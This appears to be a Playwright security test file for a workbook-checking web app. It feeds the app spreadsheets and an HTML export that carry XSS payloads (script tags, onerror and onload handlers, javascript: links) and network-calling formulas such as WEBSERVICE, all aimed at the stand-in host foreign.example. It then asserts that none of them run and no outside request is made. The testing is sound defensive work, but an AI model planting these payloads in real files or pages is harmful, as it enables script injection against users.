import type { Page } from 'playwright-core';
import { fileOf, sheetOfRows, withParts } from '../../src/files/fixtures';
import { foreignWorkbook, RICH_WORKBOOK } from '../support/foreignWorkbook';
import { press } from './support/pane';
import { choose, SINGLE, watchAll, webSite, withoutPickers } from './support/web';

const site = webSite();
/** Milliseconds for every view of a page. */
const ALL_VIEWS = 120_000;

/** Whatever runs of a workbook would call this address, or set this. */
const FOREIGN = 'https://foreign.example';
const RUN = `window.hacked=1;fetch('${FOREIGN}/run')`;
const HOSTILE = [
  `<img src="${FOREIGN}/a.png" onerror="${RUN}">`,
  `<script>${RUN}</script>`,
  `"><svg onload=${RUN}>`,
  `javascript:${RUN}`,
  `=WEBSERVICE("${FOREIGN}/w")`,
  `=HYPERLINK("javascript:${RUN}","СОШ")`,
];
const hostile = (index: number): string => HOSTILE[index % HOSTILE.length] ?? '';

/** Texts of HTML wherever a person writes texts, links that run scripts, and a formula that asks the network. */
function hostileBook(): Buffer {
  const schools = HOSTILE.map((name, index) => [`${name} ${index}`, 'ШНОР', hostile(index + 1)]);
  const rows = HOSTILE.map((text, index) => [
    `1.${index + 1}.`,
    `${text}  ${text}`,
    index % 2 === 0 ? 'март 2026' : text,
    text,
    `Приказ ${text}`,
  ]);
  const head = [
    '№ п/п',
    'Мероприятия',
    'Сроки проведения',
    'Ответственные исполнители',
    'Планируемый результат',
  ];
  const roadmap = sheetOfRows([['Дорожная карта', hostile(0)], [], head, ...rows]);
  roadmap.B4 = { ...roadmap.B4, t: 's', l: { Target: `javascript:${RUN}`, Tooltip: hostile(0) } };
  roadmap.F4 = { t: 'n', v: 1, f: `WEBSERVICE("${FOREIGN}/f")` };
  roadmap['!ref'] = 'A1:F20';
  const results = schools.flatMap(([school]) =>
    ['2024/2025', '2025/2026'].map((year) => [school, year, 'ВПР', 'Математика', 5, 10, 3, 4, 2, 1]),
  );
  return fileOf({
    [hostile(1)
      .replace(/[^\p{L}<>]/gu, '')
      .slice(0, 20)]: roadmap,
    Школы: sheetOfRows([['Школа', 'Категория', 'Куратор'], ...schools]),
    Результаты: sheetOfRows([
      ['Школа', 'Учебный год', 'Процедура', 'Предмет', 'Класс', 'Участников', '«2»', '«3»', '«4»', '«5»'],
      ...results,
    ]),
  });
}

/** A web page named as a workbook, as old programs export them. */
const HTML = Buffer.from(`<!DOCTYPE html><html><head>
<script>${RUN}</script><script src="${FOREIGN}/s.js"></script><link rel="stylesheet" href="${FOREIGN}/s.css">
<meta http-equiv="refresh" content="0;url=${FOREIGN}/r"><base href="${FOREIGN}/"></head>
<body onload="${RUN}"><iframe src="${FOREIGN}/i"></iframe><object data="${FOREIGN}/o"></object>
<table><tr><th>№</th><th>Мероприятия</th></tr>
<tr><td style="background:url(${FOREIGN}/b.png)">1.1</td><td>Семинар<img src="${FOREIGN}/c.png" onerror="${RUN}"></td></tr></table>
</body></html>`);

/** Goes through all that the pane shows of a workbook. */
async function everyView(page: Page): Promise<void> {
  await press(page, 'Проверить');
  const tree = page.getByRole('tree');
  await tree.or(page.getByText('Замечаний нет')).first().waitFor();
  if ((await tree.count()) > 0) {
    await page.getByRole('treeitem').nth(1).click();
    await page.getByRole('region', { name: 'Замечание' }).waitFor();
    await page.getByRole('region', { name: 'Замечание' }).getByRole('button', { name: 'Закрыть' }).click();
  }
  await page.getByRole('tab', { name: /^Листы/ }).click();
  for (const area of ['Показатели', 'Отчёты', 'Файлы', 'Настройки']) {
    await page.getByRole('tab', { name: area, exact: true }).click();
    await page.getByRole('heading', { level: 1 }).last().waitFor();
  }
  await page.getByRole('tab', { name: 'Отчёты', exact: true }).click();
  await press(page, 'Составить мониторинг');
  await page.getByText('Что будет записано').waitFor();
  await press(page, /^Вставить лист/);
  await page.getByRole('tab', { name: 'Мониторинг', exact: true }).waitFor();
}

/** Opens a file in an edition; gives what the page has run, shown or asked for beside its own files. */
async function opened(
  address: string,
  { name, bytes }: { readonly name: string; readonly bytes: Uint8Array },
  look: (page: Page) => Promise<void>,
): Promise<readonly string[]> {
  const context = await site.newContext();
  try {
    await withoutPickers(context);
    const troubles: string[] = [];
    const asked = watchAll(context, [site.address(), SINGLE]);
    const page = await context.newPage();
    page.on('dialog', (dialog) => {
      troubles.push(`dialog: ${dialog.message()}`);
      void dialog.dismiss();
    });
    context.on('page', (another) => troubles.push(`page: ${another.url()}`));
    await page.goto(address);
    await choose(page, name, bytes);
    await page.getByRole('grid').waitFor();
    await look(page);
    const hasRun = await page.evaluate(() => 'hacked' in window);
    return [...troubles, ...asked, ...(hasRun ? ['a script of the workbook has run'] : [])];
  } finally {
    await context.close();
  }
}

test.each([
  ['a site', () => site.address()],
  ['the single file', () => SINGLE],
])(
  '%s: nothing of a workbook runs, and nobody is asked for anything, in any view',
  async (_, address) => {
    expect(await opened(address(), { name: 'карта.xlsx', bytes: hostileBook() }, everyView)).toEqual([]);
  },
  ALL_VIEWS,
);

test('macros, external links and pictures of a workbook stay in its file and run nowhere', async () => {
  const bytes = withParts(foreignWorkbook(RICH_WORKBOOK), {
    'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="${FOREIGN}/book.xlsx" TargetMode="External"/></Relationships>`,
  });
  const look = async (page: Page): Promise<void> => {
    for (const tab of await page.getByRole('tablist', { name: 'Листы книги' }).getByRole('tab').all())
      await tab.click();
  };
  expect(await opened(site.address(), { name: 'книга.xlsm', bytes }, look)).toEqual([]);
});

test('a web page named as a workbook is read as its table, and is no page', async () => {
  const look = (page: Page): Promise<void> => page.getByRole('grid').getByText('Семинар').waitFor();
  for (const name of ['выгрузка.xls', 'выгрузка.html'])
    expect(await opened(site.address(), { name, bytes: HTML }, look)).toEqual([]);
});
